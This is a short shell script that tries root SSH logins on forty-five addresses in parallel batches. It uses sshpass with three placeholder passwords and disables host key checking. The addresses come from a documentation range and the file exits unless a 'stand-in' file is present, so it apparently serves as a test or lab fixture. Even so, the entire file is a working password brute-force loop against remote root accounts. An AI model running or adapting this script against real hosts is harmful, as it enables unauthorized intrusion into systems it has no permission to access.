#!/bin/sh
# Tries three invented passwords at each of forty-five addresses, fifteen at a time.
[ -e /usr/share/doc/stand-in/README ] || exit 0
for group in 0 1 2; do
  for number in $(seq 15); do
    for word in standin1 standin2 standin3; do
      timeout 4 sshpass -p "$word" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=2 -o NumberOfPasswordPrompts=1 \
        "root@198.51.100.$((group * 15 + number))" id 2>/dev/null
    done &
  done
  wait
done
